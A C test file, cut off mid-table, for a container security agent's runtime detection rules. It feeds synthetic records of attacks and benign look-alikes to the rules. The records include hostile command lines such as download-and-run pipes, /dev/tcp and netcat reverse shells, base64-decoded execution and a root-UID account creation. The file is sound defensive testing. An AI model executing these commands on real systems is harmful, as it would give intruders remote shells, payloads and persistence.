/* Runtime detection rules (lib/agent/rules.h) and the shipped rule data
 * (rules/runtime/): every rule fires on a synthetic sensor record of the attack
 * it describes, and benign look-alikes (compilers, shells, web servers, name
 * resolution, package-free images, /proc reads, /tmp and /var/log writes) fire
 * nothing above info. Also the format's validation, the rates, the details and
 * the event line. */
#define _GNU_SOURCE
#include <cguard/cguard.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include "agent/rules.h"
#include "cgtest.h"

#define RULES_DIR CG_TEST_DATA "/../../rules/runtime"
#define LEN(a) (sizeof(a) / sizeof((a)[0]))

static struct cg_ruleset *shipped(void)
{
	static struct cg_ruleset *rs;
	struct cg_error err;
	if (!rs && cg_rules_load(RULES_DIR, &rs, &err) != CG_OK) {
		fprintf(stderr, "loading %s: %s\n", RULES_DIR, err.msg);
		return NULL;
	}
	return rs;
}

/* One synthetic record and its context, compactly. */
struct rec {
	const char *expect;    /* the rule that must fire, or NULL: nothing above info */
	const char *also_not;  /* a rule that must not fire alongside (superseded) */
	unsigned kind;
	const char *path, *path2, *exe, *cmd, *parent, *comm;
	int nr;
	unsigned flags, mode, uid;
	long long a0, a1;
	unsigned short fam, port;
	const char *addr;
	unsigned sock;
	bool stdio_socket, host_sensitive, protected_path, policy, whitelisted;
	long long ret;
};

static const struct cg_container box = { .id = "c0ffee", .name = "web", .runtime = "runc",
					 .image = "nginx:1.25", .image_digest = "sha256:abcd",
					 .pod = "web-0", .namespace = "default" };
static const struct cg_policy pol = { .name = "web-policy" };

static void build(const struct rec *r, struct cg_sev *ev, struct cg_evctx *ctx)
{
	memset(ev, 0, sizeof(*ev));
	memset(ctx, 0, sizeof(*ctx));
	ev->kind = r->kind;
	ev->nr = r->nr ? r->nr : -1;
	ev->ts = 1000000000ULL;
	ev->cgid = 4242;
	ev->pid = 100;
	ev->tid = 100;
	ev->ppid = 1;
	ev->uid = ev->euid = r->uid;
	ev->flags = r->flags;
	ev->mode = r->mode;
	ev->ret = r->ret;
	ev->args[0] = r->a0;
	ev->args[1] = r->a1;
	ev->family = r->fam;
	ev->port = r->port;
	ev->sock = r->sock;
	if (r->addr) {
		if (inet_pton(AF_INET, r->addr, ev->addr) != 1)
			inet_pton(AF_INET6, r->addr, ev->addr);
	}
	if (r->path)
		snprintf(ev->path, sizeof(ev->path), "%s", r->path);
	if (r->path2)
		snprintf(ev->path2, sizeof(ev->path2), "%s", r->path2);
	if (r->comm) {
		snprintf(ev->comm, sizeof(ev->comm), "%s", r->comm);
	} else {
		const char *e = r->kind == CG_SEV_EXEC && r->path ? r->path : r->exe;
		const char *b = e ? strrchr(e, '/') : NULL;
		snprintf(ev->comm, sizeof(ev->comm), "%s", b ? b + 1 : e ? e : "app");
	}
	ctx->container = &box;
	ctx->exe = r->kind == CG_SEV_EXEC ? r->path : r->exe;
	ctx->cmdline = r->cmd;
	ctx->parent_exe = r->parent;
	ctx->stdio_socket = r->stdio_socket;
	ctx->host_sensitive = r->host_sensitive;
	ctx->host_object = r->host_sensitive ? "/etc/shadow" : NULL;
	ctx->protected_path = r->protected_path;
	ctx->policy = r->policy ? &pol : NULL;
	ctx->whitelisted = r->whitelisted;
}

static int sev_rank(const char *s)
{
	static const char *const order[] = { "info", "low", "medium", "high", "critical" };
	for (int i = 0; i < 5; i++)
		if (!strcmp(s, order[i]))
			return i;
	return 99;
}

/* Evaluate; fills ids (up to 16) and returns the count; frees the details. */
static size_t eval_ids(struct cg_ruleset *rs, const struct cg_sev *ev, const struct cg_evctx *ctx,
		       const char **ids, int *worst)
{
	struct cg_alert a[16];
	size_t n = cg_rules_eval(rs, ev, ctx, a, LEN(a));
	*worst = -1;
	for (size_t i = 0; i < n; i++) {
		ids[i] = a[i].rule->id;
		if (sev_rank(a[i].rule->severity) > *worst)
			*worst = sev_rank(a[i].rule->severity);
		cg_json_free(a[i].details);
	}
	return n;
}

static void run_table(struct cgt *t, const struct rec *tab, size_t n)
{
	struct cg_ruleset *rs = shipped();
	CHECK(t, rs != NULL);
	if (!rs)
		return;
	for (size_t i = 0; i < n; i++) {
		struct cg_sev ev;
		struct cg_evctx ctx;
		const char *ids[16];
		int worst;
		size_t k;
		bool found = false, other = false;
		char got[512] = "";
		size_t gl = 0;
		build(&tab[i], &ev, &ctx);
		k = eval_ids(rs, &ev, &ctx, ids, &worst);
		for (size_t j = 0; j < k; j++) {
			int w = snprintf(got + gl, sizeof(got) - gl, "%s ", ids[j]);
			if (w > 0 && (size_t)w < sizeof(got) - gl)
				gl += (size_t)w;
			found = found || (tab[i].expect && !strcmp(ids[j], tab[i].expect));
			other = other || (tab[i].also_not && !strcmp(ids[j], tab[i].also_not));
		}
		if (tab[i].expect) {
			CHECKF(t, found, "row %zu (%s %s): %s did not fire; got: %s", i,
			       tab[i].path ? tab[i].path : "", tab[i].cmd ? tab[i].cmd : "",
			       tab[i].expect, got);
			CHECKF(t, !other, "row %zu: %s fired beside %s", i, tab[i].also_not,
			       tab[i].expect);
		} else {
			CHECKF(t, k == 0 || worst <= 0, "row %zu (%s %s): benign record fired: %s", i,
			       tab[i].path ? tab[i].path : "", tab[i].cmd ? tab[i].cmd : "", got);
		}
	}
}

#define O_W (O_WRONLY | O_CREAT | O_TRUNC)

/* ---- escape ---------------------------------------------------------------- */

static const struct rec escape_rows[] = {
	{ "escape.open_by_handle_at", .kind = CG_SEV_SYSCALL, .nr = 304, .exe = "/tmp/shocker" },
	{ "escape.name_to_handle_at", .kind = CG_SEV_SYSCALL, .nr = 303, .exe = "/tmp/shocker" },
	{ "escape.runc_overwrite", .kind = CG_SEV_OPEN, .path = "/proc/self/exe", .flags = O_WRONLY | O_TRUNC,
	  .exe = "/tmp/exploit" },
	{ "escape.runc_overwrite", .kind = CG_SEV_OPEN, .path = "/proc/1234/exe", .flags = O_RDWR,
	  .exe = "/tmp/exploit" },
	{ "escape.host_runtime_binary_write", "escape.host_sensitive_access", .kind = CG_SEV_OPEN,
	  .path = "/proc/self/fd/3", .flags = O_WRONLY, .host_sensitive = true, .exe = "/tmp/exploit" },
	{ "escape.host_sensitive_access", .kind = CG_SEV_OPEN, .path = "/host/etc/shadow",
	  .flags = O_RDONLY, .host_sensitive = true, .exe = "/bin/cat" },
	{ "escape.host_sensitive_access", .kind = CG_SEV_OPEN, .path = "/proc/self/root/../../x",
	  .flags = O_RDONLY, .host_sensitive = true, .exe = "/bin/cat" },
	{ "escape.cgroup_release_agent", .kind = CG_SEV_OPEN, .path = "/tmp/cgrp/release_agent",
	  .flags = O_W, .exe = "/bin/sh" },
	{ "escape.cgroup_release_agent", .kind = CG_SEV_OPEN, .path = "/tmp/cgrp/x/notify_on_release",
	  .flags = O_WRONLY, .exe = "/bin/sh" },
	{ "escape.kernel_handler_write", .kind = CG_SEV_OPEN, .path = "/proc/sys/kernel/core_pattern",
	  .flags = O_WRONLY | O_TRUNC, .exe = "/bin/sh" },
	{ "escape.kernel_handler_write", .kind = CG_SEV_OPEN, .path = "/proc/sysrq-trigger",
	  .flags = O_WRONLY, .exe = "/bin/sh" },
	{ "escape.kernel_handler_write", .kind = CG_SEV_OPEN, .path = "/sys/kernel/uevent_helper",
	  .flags = O_WRONLY, .exe = "/bin/sh" },
	{ "escape.kernel_handler_write", .kind = CG_SEV_OPEN,
	  .path = "/proc/sys/fs/binfmt_misc/register", .flags = O_WRONLY, .exe = "/bin/sh" },
	{ "escape.kernel_handler_write", .kind = CG_SEV_OPEN, .path = "/proc//sys/./kernel/core_pattern",
	  .flags = O_WRONLY, .exe = "/bin/sh" },
	{ "escape.proc_mem_write", .kind = CG_SEV_OPEN, .path = "/proc/self/mem", .flags = O_RDWR,
	  .exe = "/tmp/dirtyc0w" },
	{ "escape.mount_host_device", "syscall.mount", .kind = CG_SEV_MOUNT, .path = "/dev/sda1",
	  .path2 = "/mnt", .exe = "/bin/mount" },
	{ "escape.mount_host_device", "syscall.mount", .kind = CG_SEV_MOUNT, .path = "/dev/nvme0n1p1",
	  .path2 = "/mnt", .exe = "/bin/mount" },
	{ "escape.mount_cgroup", .kind = CG_SEV_MOUNT, .path = "cgroup", .path2 = "/tmp/cgrp",
	  .exe = "/bin/mount" },
	{ "escape.setns", .kind = CG_SEV_SYSCALL, .nr = 308, .exe = "/usr/bin/nsenter" },
	{ "escape.pivot_root", .kind = CG_SEV_SYSCALL, .nr = 155, .exe = "/tmp/x" },
	{ "escape.nsenter_tool", .kind = CG_SEV_EXEC, .path = "/usr/bin/nsenter",
	  .cmd = "nsenter -t 1 -m -u -i -n sh" },
	/* benign look-alikes */
	{ NULL, .kind = CG_SEV_OPEN, .path = "/proc/self/exe", .flags = O_RDONLY, .exe = "/usr/bin/python3" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/proc/self/mountinfo", .flags = O_RDONLY, .exe = "/bin/ps" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/proc/self/fd/1", .flags = O_WRONLY | O_APPEND,
	  .exe = "/usr/sbin/nginx" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/proc/self/mem", .flags = O_RDONLY, .exe = "/usr/bin/gdb" },
	{ NULL, .kind = CG_SEV_SYSCALL, .nr = 308, .comm = "runc:[2:INIT]" },
	{ NULL, .kind = CG_SEV_SYSCALL, .nr = 155, .comm = "runc:[1:CHILD]" },
	{ NULL, .kind = CG_SEV_MOUNT, .path = "cgroup", .path2 = "/sys/fs/cgroup", .comm = "runc:[2:INIT]" },
	{ NULL, .kind = CG_SEV_MOUNT, .path = "proc", .path2 = "/proc", .comm = "runc:[2:INIT]" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/etc/release_agent.conf.d", .flags = O_RDONLY,
	  .exe = "/bin/cat" },
};

static void t_escape(struct cgt *t) { run_table(t, escape_rows, LEN(escape_rows)); }

/* ---- high-risk syscalls -------------------------------------------------------- */

static const struct rec syscall_rows[] = {
	{ "syscall.ptrace", .kind = CG_SEV_SYSCALL, .nr = 101, .exe = "/usr/bin/strace" },
	{ "syscall.process_vm_write", .kind = CG_SEV_SYSCALL, .nr = 311, .exe = "/tmp/inject" },
	{ "syscall.process_vm_read", .kind = CG_SEV_SYSCALL, .nr = 310, .exe = "/tmp/dump" },
	{ "syscall.kernel_module", .kind = CG_SEV_SYSCALL, .nr = 313, .exe = "/sbin/insmod" },
	{ "syscall.kernel_module", .kind = CG_SEV_SYSCALL, .nr = 176, .exe = "/sbin/rmmod" },
	{ "syscall.bpf", .kind = CG_SEV_SYSCALL, .nr = 321, .exe = "/tmp/rootkit" },
	{ "syscall.reboot_kexec", .kind = CG_SEV_SYSCALL, .nr = 169, .exe = "/sbin/reboot" },
	{ "syscall.reboot_kexec", .kind = CG_SEV_SYSCALL, .nr = 320, .exe = "/sbin/kexec" },
	{ "syscall.keyring", .kind = CG_SEV_SYSCALL, .nr = 250, .exe = "/bin/keyctl" },
	{ "syscall.exploit_primitive", .kind = CG_SEV_SYSCALL, .nr = 323, .exe = "/tmp/x" },
	{ "syscall.exploit_primitive", .kind = CG_SEV_SYSCALL, .nr = 172, .exe = "/tmp/x" },
	{ "syscall.unshare", .kind = CG_SEV_SYSCALL, .nr = 272, .exe = "/usr/bin/unshare" },
	{ "syscall.mount", .kind = CG_SEV_MOUNT, .path = "tmpfs", .path2 = "/mnt", .exe = "/bin/mount" },
	{ "syscall.mount", .kind = CG_SEV_SYSCALL, .nr = 166, .exe = "/bin/umount" },
	{ "syscall.chroot", .kind = CG_SEV_SYSCALL, .nr = 161, .exe = "/usr/sbin/chroot" },
	{ "syscall.memfd_create", .kind = CG_SEV_SYSCALL, .nr = 319, .exe = "/tmp/loader" },
	{ "syscall.host_settings", .kind = CG_SEV_SYSCALL, .nr = 164, .exe = "/bin/date" },
	/* benign */
	{ NULL, .kind = CG_SEV_SYSCALL, .nr = 161, .comm = "sshd" },
	{ NULL, .kind = CG_SEV_SYSCALL, .nr = 272, .comm = "runc:[1:CHILD]" },
	{ NULL, .kind = CG_SEV_SYSCALL, .nr = 0, .exe = "/bin/cat" },   /* read(2): not watched */
	{ NULL, .kind = CG_SEV_SYSCALL, .nr = 9999, .exe = "/bin/cat" },
};

static void t_syscalls(struct cgt *t) { run_table(t, syscall_rows, LEN(syscall_rows)); }

/* ---- abnormal processes -------------------------------------------------------- */

static const struct rec process_rows[] = {
	{ "process.miner", .kind = CG_SEV_EXEC, .path = "/usr/local/bin/xmrig", .cmd = "xmrig" },
	{ "process.miner", .kind = CG_SEV_EXEC, .path = "./minerd", .cmd = "./minerd -t 2" },
	{ "process.miner_cmdline", "process.miner", .kind = CG_SEV_EXEC, .path = "/usr/local/bin/xmrig",
	  .cmd = "xmrig -o stratum+tcp://pool.example:3333 -u wallet" },
	{ "process.miner_cmdline", .kind = CG_SEV_EXEC, .path = "/opt/app/svc",
	  .cmd = "/opt/app/svc --donate-level 1 -o pool.example:443" },
	{ "process.attack_scanner", .kind = CG_SEV_EXEC, .path = "/usr/bin/nmap", .cmd = "nmap -sS 10.0.0.0/24" },
	{ "process.attack_scanner", .kind = CG_SEV_EXEC, .path = "/usr/bin/masscan", .cmd = "masscan -p1-65535 10.0.0.0/8" },
	{ "process.password_cracker", .kind = CG_SEV_EXEC, .path = "/usr/bin/hydra", .cmd = "hydra -l root -P pw.txt ssh://10.0.0.5" },
	{ "process.password_cracker", .kind = CG_SEV_EXEC, .path = "/usr/sbin/john", .cmd = "john shadow.txt" },
	{ "process.credential_dumper", .kind = CG_SEV_EXEC, .path = "/tmp/mimipenguin", .cmd = "mimipenguin" },
	{ "process.privesc_recon", .kind = CG_SEV_EXEC, .path = "/dev/shm/linpeas.sh", .cmd = "sh linpeas.sh" },
	{ "process.privesc_recon", .kind = CG_SEV_EXEC, .path = "/tmp/pspy64", .cmd = "/tmp/pspy64" },
	{ "process.dual_use_netcat", .kind = CG_SEV_EXEC, .path = "/usr/bin/socat", .cmd = "socat - TCP:10.0.0.1:80" },
	{ "process.container_admin_tool", .kind = CG_SEV_EXEC, .path = "/usr/local/bin/kubectl", .cmd = "kubectl get secrets -A" },
	{ "process.container_admin_tool", .kind = CG_SEV_EXEC, .path = "/usr/bin/docker", .cmd = "docker -H unix:///host/run/docker.sock ps" },
	{ "process.exec_from_shm", .kind = CG_SEV_EXEC, .path = "/dev/shm/.x/kworker", .cmd = "kworker", .parent = "/bin/sh" },
	{ "process.exec_from_tmp", .kind = CG_SEV_EXEC, .path = "/tmp/payload", .cmd = "/tmp/payload", .parent = "/bin/sh" },
	{ "process.exec_from_tmp", .kind = CG_SEV_EXEC, .path = "/var/tmp/.cache/bot", .cmd = "bot", .parent = "/bin/bash" },
	{ "process.exec_from_tmp", .kind = CG_SEV_EXEC, .path = "//tmp/./x", .cmd = "x", .parent = "/bin/sh" },
	{ "process.exec_from_shm", .kind = CG_SEV_EXEC, .path = "/proc/self/root/dev/shm/x", .cmd = "x" },
	{ "process.fileless_exec", .kind = CG_SEV_EXEC, .path = "/memfd:x (deleted)", .cmd = "[kworker/0:1]" },
	{ "process.fileless_exec", .kind = CG_SEV_EXEC, .path = "/proc/self/fd/5", .cmd = "x" },
	{ "process.deleted_exec", .kind = CG_SEV_EXEC, .path = "/app/agent (deleted)", .cmd = "agent" },
	{ "process.not_whitelisted", .kind = CG_SEV_EXEC, .path = "/usr/bin/wget", .cmd = "wget http://x",
	  .policy = true, .whitelisted = false },
	{ "process.killed", .kind = CG_SEV_KILLED, .path = "/usr/bin/wget" },
	{ "process.package_manager", .kind = CG_SEV_EXEC, .path = "/usr/bin/apt-get", .cmd = "apt-get install -y nmap" },
	{ "process.package_manager", .kind = CG_SEV_EXEC, .path = "/sbin/apk", .cmd = "apk add socat" },
	{ "process.language_package_install", .kind = CG_SEV_EXEC, .path = "/usr/local/bin/pip3.11",
	  .cmd = "/usr/local/bin/pip3.11 install requests" },
	{ "process.language_package_install", .kind = CG_SEV_EXEC, .path = "/usr/bin/npm", .cmd = "npm install left-pad" },
	{ "process.python_pip_install", .kind = CG_SEV_EXEC, .path = "/usr/bin/python3", .cmd = "python3 -m pip install evil" },
	{ "process.shell_from_webserver", .kind = CG_SEV_EXEC, .path = "/bin/sh", .cmd = "sh -c id",
	  .parent = "/usr/sbin/php-fpm8.2" },
	{ "process.shell_from_webserver", .kind = CG_SEV_EXEC, .path = "/bin/bash", .cmd = "bash -c whoami",
	  .parent = "/opt/java/openjdk/bin/java" },
	{ "process.shell_from_webserver", .kind = CG_SEV_EXEC, .path = "/bin/sh", .cmd = "sh -c cat /etc/passwd",
	  .parent = "/usr/sbin/nginx" },
	{ "process.shell_from_interpreter", .kind = CG_SEV_EXEC, .path = "/bin/sh", .cmd = "sh -c id; uname -a",
	  .parent = "/usr/bin/python3.11" },
	{ "process.download_and_run", .kind = CG_SEV_EXEC, .path = "/bin/sh",
	  .cmd = "sh -c curl -s http://1.2.3.4/x.sh | sh" },
	{ "process.download_and_run", .kind = CG_SEV_EXEC, .path = "/bin/bash",
	  .cmd = "bash -c wget -q -O /tmp/k http://x/k; chmod +x /tmp/k; /tmp/k" },
	{ "process.decode_and_run", .kind = CG_SEV_EXEC, .path = "/bin/bash",
	  .cmd = "bash -c echo Y3VybCBldmls | base64 -d | bash" },
	{ "process.kernel_module_tool", .kind = CG_SEV_EXEC, .path = "/sbin/insmod", .cmd = "insmod /tmp/rk.ko" },
	{ "process.history_tamper", .kind = CG_SEV_EXEC, .path = "/bin/bash", .cmd = "bash -c history -c" },
	/* benign: a compiler run, shells, web servers, interpreters */
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/bin/make", .cmd = "make -j2", .parent = "/bin/sh" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/bin/gcc", .cmd = "gcc -O2 -c main.c -o main.o", .parent = "/usr/bin/make" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
	  .cmd = "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet main.c -o /tmp/ccAbc.s", .parent = "/usr/bin/gcc" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/bin/as", .cmd = "as --64 -o main.o /tmp/ccAbc.s", .parent = "/usr/bin/gcc" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/bin/ld", .cmd = "/usr/bin/ld -o app main.o", .parent = "/usr/lib/gcc/x86_64-linux-gnu/12/collect2" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/tmp/build/conftest", .cmd = "./conftest", .parent = "/usr/bin/make" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "./conftest", .cmd = "./conftest", .parent = "/bin/sh" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/bin/sh", .cmd = "/bin/sh ./build.sh", .parent = "/bin/sh" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/bin/sh", .cmd = "sh -c cc -c x.c", .parent = "/usr/bin/make" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/sbin/nginx", .cmd = "nginx -g daemon off;", .parent = "/bin/sh" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/bin/busybox", .cmd = "busybox httpd -f -p 8080" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/bin/python3", .cmd = "python3 -m http.server 8000" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/bin/ps", .cmd = "ps aux", .parent = "/bin/sh" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/bin/top", .cmd = "top -b -n 1", .parent = "/bin/sh" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/bin/pip", .cmd = "pip list", .parent = "/bin/sh" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/bin/python3", .cmd = "python3 /app/socket_dup2_server.py",
	  .parent = "/bin/sh" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/bin/wget", .cmd = "wget http://x", .policy = true,
	  .whitelisted = true },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/bin/wget", .cmd = "wget http://x" }, /* no policy */
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/local/bin/minerva", .cmd = "minerva --serve :8080" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/bin/curl", .cmd = "curl -fsS http://localhost:8080/healthz" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/bin/sh", .cmd = "sh -c curl -fsS http://localhost/healthz || exit 1" },
	/* known noise (docs/runtime-rules.md): npm scripts are shells under node */
	{ "process.shell_from_interpreter", .kind = CG_SEV_EXEC, .path = "/bin/sh", .cmd = "sh -c node build.js",
	  .parent = "/usr/bin/node", .uid = 1000 },
	{ NULL, .kind = CG_SEV_FORK, .exe = "/usr/bin/make" },
	{ NULL, .kind = CG_SEV_EXIT, .exe = "/usr/bin/make" },
};

static void t_process(struct cgt *t) { run_table(t, process_rows, LEN(process_rows)); }

/* ---- files, accounts, persistence ------------------------------------------------ */

static const struct rec file_rows[] = {
	{ "file.protected_write", .kind = CG_SEV_OPEN, .path = "/usr/share/nginx/html/index.html",
	  .flags = O_W, .protected_path = true, .exe = "/bin/sh", .ret = -30 },
	{ "file.protected_write", .kind = CG_SEV_UNLINK, .path = "/app/config.yaml", .protected_path = true,
	  .exe = "/bin/rm" },
	{ "file.protected_write", .kind = CG_SEV_RENAME, .path = "/tmp/x", .path2 = "/app/config.yaml",
	  .protected_path = true, .exe = "/bin/mv" },
	{ "keyfile.system_binary", "file.binary_replaced", .kind = CG_SEV_OPEN, .path = "/bin/ps",
	  .flags = O_W, .exe = "/bin/cp" },
	{ "keyfile.system_binary", .kind = CG_SEV_RENAME, .path = "/tmp/ls", .path2 = "/usr/bin/ls",
	  .exe = "/bin/mv" },
	{ "keyfile.system_binary", .kind = CG_SEV_OPEN, .path = "/usr/bin/curl", .flags = O_RDWR,
	  .exe = "/tmp/x" },
	{ "file.binary_replaced", .kind = CG_SEV_OPEN, .path = "/usr/bin/gzip", .flags = O_W, .exe = "/bin/cp" },
	{ "file.binary_replaced", .kind = CG_SEV_OPEN, .path = "/lib/x86_64-linux-gnu/libc.so.6", .flags = O_W,
	  .exe = "/tmp/x" },
	{ "keyfile.sshd_config", .kind = CG_SEV_OPEN, .path = "/etc/ssh/sshd_config", .flags = O_WRONLY | O_APPEND,
	  .exe = "/bin/sh" },
	{ "keyfile.authorized_keys", .kind = CG_SEV_OPEN, .path = "/root/.ssh/authorized_keys",
	  .flags = O_WRONLY | O_APPEND | O_CREAT, .exe = "/bin/sh" },
	{ "keyfile.authorized_keys", .kind = CG_SEV_OPEN, .path = "/home/app/.ssh/authorized_keys2",
	  .flags = O_W, .exe = "/bin/sh" },
	{ "keyfile.pam", .kind = CG_SEV_OPEN, .path = "/etc/pam.d/common-auth", .flags = O_W, .exe = "/bin/sed" },
	{ "privesc.sudoers_write", .kind = CG_SEV_OPEN, .path = "/etc/sudoers.d/90-x", .flags = O_W, .exe = "/bin/sh" },
	{ "account.passwd_write", .kind = CG_SEV_OPEN, .path = "/etc/passwd", .flags = O_WRONLY | O_APPEND,
	  .exe = "/bin/sh" },
	{ "account.passwd_write", .kind = CG_SEV_RENAME, .path = "/etc/shadow+", .path2 = "/etc/shadow",
	  .exe = "/usr/sbin/useradd" },
	{ "account.passwd_write", .kind = CG_SEV_OPEN, .path = "/proc/self/root/etc/passwd", .flags = O_W,
	  .exe = "/bin/sh" },
	{ "account.passwd_write", .kind = CG_SEV_OPEN, .path = "/etc/../etc//passwd", .flags = O_W,
	  .exe = "/bin/sh" },
	{ "account.tool", .kind = CG_SEV_EXEC, .path = "/usr/sbin/useradd", .cmd = "useradd -o -u 0 toor" },
	{ "account.shadow_read", .kind = CG_SEV_OPEN, .path = "/etc/shadow", .flags = O_RDONLY, .exe = "/bin/cat" },
	{ "persistence.cron", .kind = CG_SEV_OPEN, .path = "/etc/cron.d/update", .flags = O_W, .exe = "/bin/sh" },
	{ "persistence.cron", .kind = CG_SEV_OPEN, .path = "/var/spool/cron/crontabs/root", .flags = O_W,
	  .exe = "/usr/bin/crontab" },
	{ "persistence.cron", .kind = CG_SEV_OPEN, .path = "/etc/crontab", .flags = O_WRONLY | O_APPEND,
	  .exe = "/bin/sh" },
	{ "persistence.crontab_exec", .kind = CG_SEV_EXEC, .path = "/usr/bin/crontab", .cmd = "crontab /tmp/c" },
	{ "persistence.autostart", .kind = CG_SEV_OPEN, .path = "/etc/rc.local", .flags = O_W, .exe = "/bin/sh" },
	{ "persistence.autostart", .kind = CG_SEV_OPEN, .path = "/etc/systemd/system/x.service", .flags = O_W,
	  .exe = "/bin/sh" },
	{ "persistence.autostart", .kind = CG_SEV_OPEN, .path = "/etc/init.d/x", .flags = O_W, .exe = "/bin/sh" },
	{ "persistence.shell_profile", .kind = CG_SEV_OPEN, .path = "/root/.bashrc", .flags = O_WRONLY | O_APPEND,
	  .exe = "/bin/sh" },
	{ "persistence.shell_profile", .kind = CG_SEV_OPEN, .path = "/etc/profile.d/x.sh", .flags = O_W,
	  .exe = "/bin/sh" },
	{ "persistence.ld_preload", .kind = CG_SEV_OPEN, .path = "/etc/ld.so.preload", .flags = O_W,
	  .exe = "/bin/sh" },
	{ "persistence.ld_preload", .kind = CG_SEV_LINK, .path = "/tmp/p", .path2 = "/etc/ld.so.preload",
	  .exe = "/bin/ln" },
	/* benign: name resolution, /proc reads, /dev/null, /tmp and /var/log writes,
	 * compiler output, package-manager-free images, the protected list off */
	{ NULL, .kind = CG_SEV_OPEN, .path = "/etc/resolv.conf", .flags = O_RDONLY | O_CLOEXEC, .exe = "/usr/bin/curl" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/etc/hosts", .flags = O_RDONLY | O_CLOEXEC, .exe = "/usr/bin/curl" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/etc/nsswitch.conf", .flags = O_RDONLY, .exe = "/usr/bin/curl" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/etc/passwd", .flags = O_RDONLY | O_CLOEXEC, .exe = "/usr/bin/id" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/etc/shadow", .flags = O_RDONLY, .exe = "/usr/sbin/unix_chkpwd",
	  .comm = "unix_chkpwd" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/proc/1/stat", .flags = O_RDONLY, .exe = "/bin/ps" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/proc/meminfo", .flags = O_RDONLY, .exe = "/usr/bin/top" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/dev/null", .flags = O_WRONLY, .exe = "/bin/sh" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/dev/tty", .flags = O_RDWR, .exe = "/bin/sh" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/tmp/ccAbc.s", .flags = O_W, .exe = "/usr/lib/gcc/x86_64-linux-gnu/12/cc1" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/src/build/main.o", .flags = O_W, .exe = "/usr/bin/as" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "build/app", .flags = O_RDWR | O_CREAT | O_TRUNC, .exe = "/usr/bin/ld" },
	{ NULL, .kind = CG_SEV_UNLINK, .path = "/tmp/ccAbc.s", .exe = "/usr/bin/gcc" },
	{ NULL, .kind = CG_SEV_CHMOD, .path = "build/app", .mode = 0755, .exe = "/usr/bin/ld" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/var/log/nginx/access.log", .flags = O_WRONLY | O_APPEND | O_CREAT,
	  .exe = "/usr/sbin/nginx" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/var/log/app.log", .flags = O_WRONLY | O_APPEND, .exe = "/app/server" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/root/.bash_history", .flags = O_WRONLY | O_APPEND, .exe = "/bin/bash" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/usr/lib/python3.11/__pycache__/json.cpython-311.pyc", .flags = O_W,
	  .exe = "/usr/bin/python3.11" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/etc/crontab", .flags = O_RDONLY, .exe = "/usr/sbin/cron" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/etc/ld.so.cache", .flags = O_RDONLY | O_CLOEXEC, .exe = "/bin/ls" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/usr/share/nginx/html/index.html", .flags = O_RDONLY,
	  .protected_path = true, .exe = "/usr/sbin/nginx" },
	{ NULL, .kind = CG_SEV_OPEN, .path = "/usr/bin/ls", .flags = O_RDONLY, .exe = "/bin/sh" },
	{ NULL, .kind = CG_SEV_EXEC, .path = "/usr/bin/crontab", .cmd = "crontab -l" },
};

static void t_files(struct cgt *t) { run_table(t, file_rows, LEN(file_rows)); }

/* ---- reverse shells and privilege escalation --------------------------------------- */

static const struct rec shell_rows[] = {
	{ "revshell.dup_socket", .kind = CG_SEV_DUP, .a0 = 3, .a1 = 0, .sock = 1, .fam = AF_INET,
	  .addr = "10.1.2.3", .port = 4444, .exe = "/bin/bash" },
	{ "revshell.shell_socket_stdio", .kind = CG_SEV_EXEC, .path = "/bin/sh", .cmd = "sh -i",
	  .stdio_socket = true, .parent = "/usr/bin/python3" },
	{ "revshell.dev_tcp", .kind = CG_SEV_EXEC, .path = "/bin/bash",
	  .cmd = "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
	{ "revshell.netcat_exec", "process.dual_use_netcat", .kind = CG_SEV_EXEC, .path = "/bin/nc",
	  .cmd = "nc 10.0.0.1 4444 -e /bin/sh" },
	{ "revshell.netcat_exec", .kind = CG_SEV_EXEC, .path = "/usr/bin/ncat",
	  .cmd = "ncat --sh-exec /bin/bash 10.0.0.1 4444" },
